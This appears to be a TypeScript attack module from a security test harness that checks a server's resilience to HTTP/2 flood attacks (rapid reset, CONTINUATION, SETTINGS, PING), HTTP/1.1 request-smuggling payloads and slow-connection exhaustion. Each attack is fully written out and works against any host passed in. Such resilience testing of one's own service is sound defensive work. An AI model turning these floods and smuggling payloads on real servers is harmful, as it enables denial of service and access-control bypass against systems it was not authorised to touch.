import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { ruleOf } from '@fovea/contract';
import type { Ground } from './arena.ts';
import { type Attack, ledger } from './attack.ts';
import { keyHeader } from './cast.ts';
import { isAlive } from './fuzz.ts';
import { rawTalk } from './raw.ts';

/** p95 of ordinary calls while something goes on. */
async function p95During(ground: Ground, work: Promise<unknown> | undefined, forMs: number): Promise<number> {
  const times: number[] = [];
  const until = Date.now() + forMs;
  let busy = true;
  void work
    ?.catch(() => {})
    .finally(() => {
      busy = false;
    });
  while (Date.now() < until || (work && busy && Date.now() < until + 5_000)) {
    const answer = await ground.wire.call(
      ruleOf('ListConcepts'),
      { user_app_id: ground.cast.attacker.userAppId, per_page: 1 },
      keyHeader(ground.cast.attacker.pat),
    );
    if (answer.code !== 10000) return Number.POSITIVE_INFINITY;
    times.push(answer.elapsedMs);
    await sleep(5);
  }
  return times.sort((a, b) => a - b)[Math.floor(times.length * 0.95)] ?? 0;
}

const h2Preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
function h2Frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

async function flood(host: string, pieces: (round: number) => Buffer, rounds: number): Promise<boolean> {
  const { hostname, port } = new URL(`http://${host}`);
  const socket = net.connect(Number(port), hostname);
  let closed = false;
  socket.on('close', () => {
    closed = true;
  });
  socket.on('error', () => {});
  socket.resume();
  socket.write(Buffer.concat([h2Preface, h2Frame(4, 0, 0)]));
  for (let round = 0; round < rounds && !closed; round++) {
    if (!socket.write(pieces(round)))
      await Promise.race([new Promise((r) => socket.once('drain', r)), sleep(1_000)]);
    if (round % 20 === 0) await sleep(1);
  }
  await sleep(100);
  socket.destroy();
  return closed;
}

const s36: Attack = {
  id: 'S36',
  name: 'HTTP/2 floods, HTTP/1 smuggling, slow heads and bodies',
  async run(arena) {
    const book = ledger();
    const { wire, server } = arena;
    const app = `/v2/users/${arena.cast.attacker.userId}/apps/${arena.cast.attacker.ids['app']}`;
    const quietMs = await p95During(arena, undefined, 1_500);
    const literal = (name: string, value: string) =>
      Buffer.concat([
        Buffer.from([0x00, name.length]),
        Buffer.from(name),
        Buffer.from([value.length]),
        Buffer.from(value),
      ]);
    const head = Buffer.concat([
      Buffer.from([0x83, 0x86]),
      literal(':path', '/x'),
      literal(':authority', 'x'),
    ]);
    const many = (count: number, one: (i: number) => Buffer) =>
      Buffer.concat(Array.from({ length: count }, (_, i) => one(i)));
    const floods: [string, (round: number) => Buffer][] = [
      [
        'rapid reset',
        (round) =>
          many(50, (i) =>
            Buffer.concat([
              h2Frame(1, 4, 2 * (round * 50 + i) + 1, head),
              h2Frame(3, 0, 2 * (round * 50 + i) + 1, Buffer.from([0, 0, 0, 8])),
            ]),
          ),
      ],
      [
        'CONTINUATION',
        (round) =>
          round === 0 ? h2Frame(1, 0, 1, head) : many(20, () => h2Frame(9, 0, 1, Buffer.alloc(1000, 0x40))),
      ],
      ['SETTINGS', () => many(50, () => h2Frame(4, 0, 0))],
      ['PING', () => many(50, () => h2Frame(6, 0, 0, Buffer.alloc(8)))],
      ['streams left open', (round) => many(50, (i) => h2Frame(1, 4, 2 * (round * 50 + i) + 1, head))],
      ['empty DATA', (round) => (round === 0 ? h2Frame(1, 4, 1, head) : many(50, () => h2Frame(0, 0, 1)))],
      [
        'PRIORITY',
        (round) => many(50, (i) => h2Frame(2, 0, 2 * (round * 50 + i) + 1, Buffer.from([0, 0, 0, 0, 16]))),
      ],
      ['noise', () => Buffer.from(Array.from({ length: 4_000 }, () => Math.floor(arena.random() * 256)))],
    ];
    for (const [name, pieces] of floods) {
      book.count();
      const p95 = await p95During(arena, flood(wire.host, pieces, 200), 1_000);
      if (p95 > Math.max(2 * quietMs, 400))
        book.through(`${name}: others wait ${Math.round(p95)} ms (quiet: ${Math.round(quietMs)} ms)`);
    }
    // Two lengths, or a length and chunks: what one server takes for a body another takes for a request.
    const smuggled = `GET /metrics HTTP/1.1\r\nHost: y\r\n\r\n`;
    const heads: [string, string][] = [
      ['length and chunks', `Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`],
      ['two lengths', `Content-Length: 0\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`],
      ['chunked in disguise', `Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n${smuggled}`],
      ['space before colon', `Transfer-Encoding : chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n${smuggled}`],
      ['negative length', `Content-Length: -1\r\n\r\n${smuggled}`],
      ['length with a plus', `Content-Length: +0\r\n\r\n${smuggled}`],
      ['bare newlines', `X: y\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n${smuggled}`],
      ['NUL in a header', `X: a\0b\r\nContent-Length: 0\r\n\r\n${smuggled}`],
    ];
    for (const [name, rest] of heads) {
      book.count();
      const { text } = await rawTalk(
        wire.host,
        `POST ${app}/concepts/searches HTTP/1.1\r\nHost: x\r\n${rest}`,
      );
      const first = /^HTTP\/1\.1 (\d+)/.exec(text)?.[1];
      const replies = text.match(/HTTP\/1\.1 \d+/g)?.length ?? 0;
      if (name !== 'two lengths' && first !== '400' && replies > 1)
        book.through(`${name}: ${replies} replies, the first ${first}`);
      if (name === 'two lengths' && first !== '400') book.through(`${name}: ${first}`);
    }
    // Connections that say nothing, or a header a second, or stop in the middle of a body.
    const limitMs = 75_000;
    const lazy: [string, string][] = [
      ['says nothing', ''],
      ['three letters of the preface', 'PR'],
      ['half a head', 'GET /v2/status_codes HTTP/1.1\r\nHost: x\r\nX-A: '],
      ['preface and no more', 'PRI * HTTP/2.0\r\n\r\n'],
    ];
    const open = await Promise.all(
      lazy.map(async ([name, words]) => {
        const began = Date.now();
        book.count();
        const { closed } = await rawTalk(wire.host, words, limitMs);
        return { name, closed, tookMs: Date.now() - began };
      }),
    );
    for (const { name, closed } of open)
      if (!closed) book.through(`a connection that ${name} was still open after ${limitMs / 1000} s`);
    if (!(await isAlive(arena)) || server.process.exitCode !== null)
      book.through('the server does not answer any more');
    return book.outcome({
      note: `quiet p95 ${quietMs.toFixed(1)} ms; lazy connections closed after ${open.map((one) => Math.round(one.tookMs / 1000)).join(', ')} s`,
    });
  },
};

export const connectionAttacks = [s36];
